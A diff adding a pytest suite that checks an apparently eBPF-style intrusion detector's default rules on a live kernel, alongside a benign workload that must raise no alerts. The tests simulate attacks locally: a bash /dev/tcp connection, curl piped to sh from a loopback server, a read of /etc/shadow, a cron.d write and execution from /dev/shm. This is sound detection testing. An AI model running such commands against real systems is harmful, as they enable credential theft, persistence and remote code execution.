@@ -1,0 +1,249 @@
+"""The agent with the default rules on the real kernel: real attacks alert with the right fields, a benign
+workload raises nothing."""
+
+from __future__ import annotations
+
+import http.server
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+import uuid
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+
+from .conftest import REPO, get, sentinel_cmd
+
+pytestmark = pytest.mark.kernel
+
+
+class Detector:
+    """`sentinel run` with the shipped rules; alerts on stdout collected by a thread."""
+
+    def __init__(self) -> None:
+        if os.geteuid() != 0:
+            pytest.fail("kernel tests need root: run the suite with scripts/run-tests.sh as root")
+        self.proc = subprocess.Popen(
+            sentinel_cmd("run"), stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO
+        )
+        self.alerts: list[dict[str, Any]] = []
+        self.diagnostics: list[dict[str, Any]] = []
+        self.bad: list[bytes] = []
+        self._ready = threading.Event()
+        threading.Thread(target=self._out, daemon=True).start()
+        threading.Thread(target=self._err, daemon=True).start()
+        if not self._ready.wait(90) or self.proc.poll() is not None:
+            self.proc.kill()
+            pytest.fail(f"sentinel run did not become ready: {self.diagnostics[-10:]}")
+
+    def _out(self) -> None:
+        assert self.proc.stdout is not None
+        for line in self.proc.stdout:
+            try:
+                self.alerts.append(orjson.loads(line))
+            except orjson.JSONDecodeError:
+                self.bad.append(line)
+
+    def _err(self) -> None:
+        assert self.proc.stderr is not None
+        for line in self.proc.stderr:
+            try:
+                rec = orjson.loads(line)
+            except orjson.JSONDecodeError:
+                rec = {"event": "non-json", "line": line.decode(errors="replace")}
+            self.diagnostics.append(rec)
+            if rec.get("event") == "sentinel.ready":
+                self._ready.set()
+
+    def wait_alert(
+        self, rule: str, pred: Callable[[dict[str, Any]], bool], timeout: float = 15.0
+    ) -> dict[str, Any]:
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            for a in list(self.alerts):
+                if get(a, "rule.name") == rule and pred(a):
+                    return a
+            time.sleep(0.05)
+        seen = sorted({get(a, "rule.name") for a in self.alerts})
+        pytest.fail(f"no {rule!r} alert within {timeout}s; rules seen: {seen}")
+
+    def stop(self) -> int:
+        self.proc.terminate()
+        try:
+            return self.proc.wait(30)
+        except subprocess.TimeoutExpired:
+            self.proc.kill()
+            return -9
+
+
+@pytest.fixture(scope="module")
+def detector() -> Iterator[Detector]:
+    d = Detector()
+    yield d
+    assert d.stop() == 0
+    assert not d.bad, f"non-JSON alert lines: {d.bad[:3]}"
+
+
+def in_tree(alert: dict[str, Any], root_pid: int) -> bool:
+    """The alert's process is root_pid or descends from it."""
+    if get(alert, "process.pid") == root_pid:
+        return True
+    return any(a.get("pid") == root_pid for a in get(alert, "sentinel.ancestors") or [])
+
+
+def common_alert_fields(alert: dict[str, Any]) -> None:
+    assert get(alert, "event.kind") == "alert"
+    assert get(alert, "event.severity") in (21, 47, 73, 99)
+    assert get(alert, "rule.ruleset") == "sentinel"
+    assert get(alert, "threat.framework") == "MITRE ATT&CK"
+    assert get(alert, "message")
+    assert get(alert, "@timestamp").endswith("Z")
+
+
+def test_fake_nginx_spawning_a_shell(detector: Detector, tmp_path: Path) -> None:
+    nginx = tmp_path / "nginx"
+    shutil.copy(os.path.realpath(sys.executable), nginx)
+    code = "import subprocess; subprocess.run(['/bin/sh', '-c', 'id > /dev/null'])"
+    env = {**os.environ, "PYTHONHOME": sys.base_prefix}  # a copied interpreter cannot find its stdlib alone
+    proc = subprocess.run([str(nginx), "-c", code], check=True, env=env)
+    assert proc.returncode == 0
+    alert = detector.wait_alert(
+        "Shell Or Interpreter Spawned By Web Server",
+        lambda a: get(a, "process.parent.executable") == str(nginx),
+    )
+    common_alert_fields(alert)
+    assert get(alert, "process.name") == "sh"
+    assert get(alert, "process.parent.name") == "nginx"
+    assert get(alert, "event.severity") == 73
+    assert "T1505.003" in str(get(alert, "threat.technique"))
+
+
+def test_shadow_read_with_a_copied_cat(detector: Detector, tmp_path: Path) -> None:
+    cat = tmp_path / "cat"
+    shutil.copy("/bin/cat", cat)
+    subprocess.run([str(cat), "/etc/shadow"], check=True, stdout=subprocess.DEVNULL)
+    alert = detector.wait_alert(
+        "Shadow File Read By Unexpected Program", lambda a: get(a, "process.executable") == str(cat)
+    )
+    common_alert_fields(alert)
+    assert get(alert, "file.path") == "/etc/shadow"
+    assert get(alert, "event.category") == ["file"]
+    assert "mitre_credential_access" not in str(get(alert, "threat.tactic.id"))  # ids, not tags
+    assert "TA0006" in str(get(alert, "threat.tactic.id"))
+
+
+def test_write_in_cron_d(detector: Detector) -> None:
+    target = Path(f"/etc/cron.d/sentinel-test-{uuid.uuid4().hex[:8]}")
+    try:
+        subprocess.run([sys.executable, "-c", f"open({str(target)!r}, 'w').write('# test\\n')"], check=True)
+    finally:
+        target.unlink(missing_ok=True)
+    alert = detector.wait_alert("Cron Configuration Written", lambda a: get(a, "file.path") == str(target))
+    common_alert_fields(alert)
+    assert "TA0003" in str(get(alert, "threat.tactic.id"))
+
+
+def test_exec_from_dev_shm(detector: Detector) -> None:
+    target = Path(f"/dev/shm/sentinel-{uuid.uuid4().hex[:8]}")
+    shutil.copy("/bin/true", target)
+    try:
+        subprocess.run([str(target)], check=True)
+    finally:
+        target.unlink()
+    alert = detector.wait_alert(
+        "Program Run From Shared Memory", lambda a: get(a, "process.executable") == str(target)
+    )
+    common_alert_fields(alert)
+    assert get(alert, "event.action") == "exec"
+
+
+def test_shell_connecting_to_a_loopback_listener(detector: Detector) -> None:
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    try:
+        shell = subprocess.run(
+            ["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3"], check=True
+        )
+        assert shell.returncode == 0
+    finally:
+        listener.close()
+    alert = detector.wait_alert("Shell Process Connects Out", lambda a: get(a, "destination.port") == port)
+    common_alert_fields(alert)
+    assert get(alert, "destination.ip") == "127.0.0.1"
+    assert get(alert, "event.severity") == 99
+    assert get(alert, "process.name") == "bash"
+
+
+class _Script(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        body = b"echo downloaded-and-run > /dev/null\n"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *_args: Any) -> None:
+        pass
+
+
+def test_curl_piped_to_sh(detector: Detector) -> None:
+    server = http.server.HTTPServer(("127.0.0.1", 0), _Script)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    url = f"http://127.0.0.1:{server.server_port}/install.sh"
+    try:
+        subprocess.run(["/bin/sh", "-c", f"curl -fsS {url} | sh"], check=True)
+    finally:
+        server.shutdown()
+    alert = detector.wait_alert(
+        "Download Piped To Shell", lambda a: url in (get(a, "process.command_line") or "")
+    )
+    common_alert_fields(alert)
+
+
+BENIGN = r"""
+set -e
+cd "$WORK"
+# package manager dry run
+apt-get --simulate install -y hello > /dev/null 2>&1 || apt-get --simulate upgrade > /dev/null
+# compile a C file
+printf '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n' > hello.c
+cc -O2 -o hello hello.c && ./hello > /dev/null
+# git operations
+git init -q repo && cd repo && git config user.email t@example.org && git config user.name t
+echo x > f && git add f && git commit -qm one
+git log --oneline > /dev/null && git status --short > /dev/null
+cd "$WORK"
+# cron-like jobs
+mkdir -p cron.daily && printf '#!/bin/sh\ndate > /dev/null\nls /etc > /dev/null\n' > cron.daily/job
+chmod +x cron.daily/job && run-parts cron.daily
+# logrotate
+mkdir -p logs && seq 1 1000 > logs/app.log
+printf '%s/logs/app.log {\n  rotate 2\n  compress\n  missingok\n}\n' "$WORK" > lr.conf
+logrotate -f -s "$WORK/lr.state" lr.conf
+"""
+
+
+def test_benign_workload_raises_nothing(detector: Detector) -> None:
+    # Where an operator builds and runs things: not a temporary or hidden directory (those rules should fire).
+    work = Path(f"/srv/sentinel-benign-{uuid.uuid4().hex[:8]}")
+    work.mkdir(parents=True)
+    try:
+        proc = subprocess.Popen(["/bin/sh", "-c", BENIGN], env={**os.environ, "WORK": str(work)})
+        assert proc.wait(300) == 0
+    finally:
+        shutil.rmtree(work, ignore_errors=True)
+    time.sleep(2.0)  # the agent polls every 50 ms and holds 5 ms back: 2 s is ample
+    noisy = [a for a in detector.alerts if in_tree(a, proc.pid)]
+    assert not noisy, [(get(a, "rule.name"), get(a, "process.command_line")) for a in noisy]
+
+
+def test_agent_diagnostics(detector: Detector) -> None:
+    loaded = [d for d in detector.diagnostics if d.get("event") == "sentinel.rules_loaded"]
+    assert loaded and loaded[0]["rules"] >= 40
